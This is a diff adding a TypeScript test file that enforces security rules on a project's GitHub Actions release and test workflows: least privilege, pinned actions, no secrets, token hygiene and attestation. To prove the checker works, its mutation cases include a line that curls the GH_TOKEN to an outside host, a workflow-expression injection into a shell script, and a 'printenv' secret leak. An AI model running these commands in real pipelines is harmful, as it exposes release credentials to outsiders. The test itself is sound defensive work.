@@ -1,0 +1,163 @@
+// The workflows are ones that GitHub accepts, have no more rights than they need, and run what there is.
+import { describe, expect, test } from 'bun:test'
+import { accessSync, constants, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { NoOperationTraceWriter, parseWorkflow } from '@actions/workflow-parser'
+import { parse } from 'yaml'
+import { ROOT } from '../support/server.ts'
+
+const FOLDER = join(ROOT, '.github', 'workflows')
+const FILES = ['release.yml', 'test.yml']
+const read = (file: string) => readFileSync(join(FOLDER, file), 'utf8')
+const { scripts } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8'))
+
+interface Step {
+  uses?: string
+  run?: string
+  env?: Record<string, string>
+  with?: Record<string, unknown>
+}
+interface Job {
+  uses?: string
+  needs?: string | string[]
+  permissions?: Record<string, string>
+  secrets?: unknown
+  'timeout-minutes'?: number
+  steps?: Step[]
+}
+interface Workflow {
+  permissions?: unknown
+  jobs: Record<string, Job>
+}
+
+/** What GitHub itself would say of a workflow: an unknown field, a function or context that there is not, a wrong type. */
+function mistakesIn(content: string): string[] {
+  const { context } = parseWorkflow({ name: 'workflow.yml', content }, new NoOperationTraceWriter())
+  return context.errors.getErrors().map(({ message }) => message)
+}
+
+/** A right to write, and running what a stranger may have had a hand in, are never in one job. */
+const runsOurs = ({ steps = [] }: Job) =>
+  steps.some(
+    ({ uses = '', run = '' }) =>
+      uses.startsWith('actions/checkout') || /(^|[;&|(])\s*(npm|npx|node|bun|dist\/|\.ci\/)/m.test(run),
+  )
+const canWrite = ({ permissions = {} }: Job) => Object.values(permissions).includes('write')
+
+/** Words of a script that are not there: scripts of the package, files of .ci. */
+function absentIn(run: string): string[] {
+  const ofPackage = [...run.matchAll(/\bnpm (?:run )?([\w:]+)/g)].map(([, name = '']) => name)
+  const files = [...run.matchAll(/(?<![\w/])\.ci\/[\w./-]+/g)].map(([path]) => path)
+  const isAbsent = (path: string) => {
+    try {
+      accessSync(join(ROOT, path), constants.X_OK)
+      return false
+    } catch {
+      return true
+    }
+  }
+  return [...ofPackage.filter((name) => !(name in scripts)), ...files.filter(isAbsent)]
+}
+
+/** Which of the rules a workflow breaks. */
+function breachesOf(content: string): string[] {
+  const { permissions, jobs }: Workflow = parse(content)
+  const breaches = JSON.stringify(permissions) === '{"contents":"read"}' ? [] : ['rights of the whole workflow']
+  // The token that GitHub makes for a run is all that there is to keep, and it goes to GitHub's own program alone.
+  if (/\bsecrets\b/.test(content)) breaches.push('a secret')
+  for (const [name, job] of Object.entries(jobs)) {
+    if (canWrite(job) && runsOurs(job)) breaches.push(`${name}: code of ours with rights to write`)
+    if (job.uses === undefined && job['timeout-minutes'] === undefined) breaches.push(`${name}: no timeout`)
+    for (const { uses, run = '', env = {}, ...step } of job.steps ?? []) {
+      if (uses !== undefined && !/^actions\/[\w-]+@v\d+$/.test(uses))
+        breaches.push(`${name}: ${uses} is not pinned or not GitHub's`)
+      if (uses?.startsWith('actions/checkout') && step.with?.['persist-credentials'] !== false)
+        breaches.push(`${name}: the checkout keeps the token`)
+      // What GitHub puts into a script before the shell reads it can be a command, such as the name of a branch.
+      if (run.includes('${{')) breaches.push(`${name}: an expression in a script`)
+      if (/\b(printenv|set -\w*x|env$)|\bGH_TOKEN\b|github\.token/m.test(run)) breaches.push(`${name}: prints what is secret`)
+      if (Object.values(env).some((value) => /github\.token/.test(value)) && !/^gh [^;&|]*$/.test(run))
+        breaches.push(`${name}: the token goes to more than gh`)
+      breaches.push(...absentIn(run).map((word) => `${name}: ${word} is not there`))
+    }
+  }
+  return breaches
+}
+
+test('there are no other workflows', () => {
+  expect([...new Bun.Glob('*').scanSync(FOLDER)].sort()).toEqual(FILES)
+})
+
+describe.each(FILES)('%s', (file) => {
+  test('is accepted by the parser of GitHub', () => expect(mistakesIn(read(file))).toEqual([]))
+  test('keeps to the rules', () => expect(breachesOf(read(file))).toEqual([]))
+  test('says how actions are pinned', () => expect(read(file)).toStartWith("# Actions are GitHub's own, pinned by major version"))
+})
+
+describe('would be found:', () => {
+  const release = read('release.yml')
+  test.each([
+    ['a field that there is not', 'timeout-minutes: 45', 'timeoutminutes: 45'],
+    ['a context that there is not', 'github.ref_name', 'githob.ref_name'],
+  ])('%s', (_, good, bad) => expect(mistakesIn(release.replace(good, bad))).toHaveLength(1))
+
+  test.each([
+    ['contents: read', 'contents: write', 'rights of the whole workflow'],
+    ['    timeout-minutes: 45\n', '', 'build: no timeout'],
+    ['actions/checkout@v4', 'actions/checkout@main', "build: actions/checkout@main is not pinned or not GitHub's"],
+    ['actions/setup-node@v4', 'someone/setup-node@v4', "build: someone/setup-node@v4 is not pinned or not GitHub's"],
+    ['persist-credentials: false', 'fetch-depth: 1', 'build: the checkout keeps the token'],
+    ['sha256sum --check --strict SHA256SUMS', 'npm run check', 'publish: code of ours with rights to write'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
+    ['test "$TAG"', 'test "${{ github.ref_name }}"', 'build: an expression in a script'],
+    ['sha256sum --check --strict', 'printenv; sha256sum', 'publish: prints what is secret'],
+    ['run: gh release', 'run: curl -d "$GH_TOKEN" example.com; gh release', 'publish: the token goes to more than gh'],
+    ['github.token', 'secrets.RELEASE', 'a secret'],
+    ['npm run build:all', 'npm run build:every', 'build: build:every is not there'],
+    ['npm run build:all', '.ci/nothing', 'build: .ci/nothing is not there'],
+  ])('%j in place of %j', (good, bad, breach) => {
+    expect(release).toContain(good)
+    expect(breachesOf(release.replace(good, bad))).toContain(breach)
+  })
+})
+
+describe('a release', () => {
+  const { jobs }: Workflow = parse(read('release.yml'))
+  const stepOf = (job: string, action: string) => jobs[job]?.steps?.find(({ uses }) => uses?.startsWith(`actions/${action}@`))
+
+  test('comes after all tests', () => {
+    expect(jobs.test?.uses).toBe('./.github/workflows/test.yml')
+    expect(jobs.publish?.needs).toEqual(['test', 'build'])
+    expect(Object.keys(parse(read('test.yml')).on)).toContain('workflow_call')
+    expect(JSON.stringify(parse(read('test.yml')).jobs.gate.steps)).toContain('".ci/run"')
+  })
+
+  test('has what the build writes: every platform, sums, licences, SBOM', () => {
+    const build = readFileSync(join(ROOT, '.ci', 'build.ts'), 'utf8')
+    expect(jobs.build?.steps?.map(({ run }) => run)).toContain('npm run build:all')
+    const paths = `${stepOf('build', 'upload-artifact')?.with?.path}`.trim().split('\n')
+    expect(paths).toEqual(['dist/doorstep-*', 'dist/doorstep.cdx.json', 'dist/LICENSES.txt', 'dist/SHA256SUMS'])
+    for (const path of paths.slice(1)) expect(build).toContain(`'${path.slice('dist/'.length)}'`)
+  })
+
+  test('is attested before it is published: where it was built, and what is in it', () => {
+    expect(stepOf('publish', 'attest-build-provenance')?.with).toEqual({ 'subject-path': 'dist/*' })
+    expect(stepOf('publish', 'attest-sbom')?.with).toEqual({
+      'subject-path': 'dist/doorstep-*',
+      'sbom-path': 'dist/doorstep.cdx.json',
+    })
+    expect(jobs.publish?.permissions).toEqual({ contents: 'write', 'id-token': 'write', attestations: 'write' })
+    expect(jobs.publish?.steps?.at(-1)?.run).toStartWith('gh release create')
+  })
+})
+
+test('the proof that a build can be repeated leaves the files of the release as they are', () => {
+  expect(scripts['build:verify']).toContain('.ci/verify.ts')
+  expect(scripts['build:verify']).not.toContain('.ci/build.ts')
+})
+
+test('dependabot looks where packages, actions and images are named', () => {
+  const { updates } = parse(readFileSync(join(ROOT, '.github', 'dependabot.yml'), 'utf8'))
+  const watched = updates.map((update: Record<string, string>) => `${update['package-ecosystem']} ${update.directory}`)
+  expect(watched).toEqual(['npm /', 'github-actions /', 'docker /deploy/docker'])
+})
